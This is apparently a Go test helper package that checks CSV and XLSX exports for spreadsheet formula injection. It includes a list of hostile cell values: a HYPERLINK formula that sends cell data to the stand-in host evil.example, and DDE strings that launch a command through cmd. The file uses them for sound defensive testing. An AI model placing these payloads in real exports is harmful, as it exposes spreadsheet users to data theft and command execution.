// Package celltest checks that an export can carry no formula, for the
// tests of every exporter (task lists, reports, the audit log).
package celltest

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"strconv"
	"strings"
	"testing"

	"planwatch/internal/cell"
)

// Hostile are texts a spreadsheet program would run as formulas if an
// export wrote them as they are: put them in the data an exporter writes.
var Hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"详情")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

// CSV fails t when a field of the CSV data (with or without a BOM) would
// be taken for a formula.
func CSV(t testing.TB, data []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("csv: %v", err)
	}
	for i, rec := range recs {
		for j, v := range rec {
			if cell.Formulaic(v) {
				t.Errorf("csv record %d field %d starts a formula: %q", i+1, j+1, v)
			}
		}
	}
}

// XLSX fails t when a worksheet of the workbook holds a formula or a cell
// that is neither a string, a number, a boolean nor a date: text must be
// string cells (t="s" or inlineStr), never formulas or their results.
func XLSX(t testing.TB, data []byte) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatalf("xlsx: %v", err)
	}
	sheets := 0
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") || !strings.HasSuffix(zf.Name, ".xml") {
			continue
		}
		sheets++
		rc, err := zf.Open()
		if err != nil {
			t.Fatalf("xlsx %s: %v", zf.Name, err)
		}
		checkSheet(t, zf.Name, rc)
		rc.Close()
	}
	if sheets == 0 {
		t.Fatal("xlsx: no worksheets")
	}
}

func checkSheet(t testing.TB, name string, r io.Reader) {
	t.Helper()
	d := xml.NewDecoder(r)
	var ref, typ string
	inV := false
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Fatalf("xlsx %s: %v", name, err)
		}
		switch el := tok.(type) {
		case xml.StartElement:
			switch el.Name.Local {
			case "f":
				t.Errorf("xlsx %s: cell %s holds a formula", name, ref)
			case "c":
				ref, typ = "", ""
				for _, a := range el.Attr {
					switch a.Name.Local {
					case "r":
						ref = a.Value
					case "t":
						typ = a.Value
					}
				}
				switch typ {
				case "", "n", "s", "inlineStr", "b", "d":
				default:
					t.Errorf("xlsx %s: cell %s has type %q (want a string, number, boolean or date)", name, ref, typ)
				}
			case "v":
				inV = true
			}
		case xml.CharData:
			if inV && (typ == "" || typ == "n") {
				if _, err := strconv.ParseFloat(strings.TrimSpace(string(el)), 64); err != nil {
					t.Errorf("xlsx %s: number cell %s holds %q", name, ref, el)
				}
			}
		case xml.EndElement:
			if el.Name.Local == "v" {
				inV = false
			}
		}
	}
}
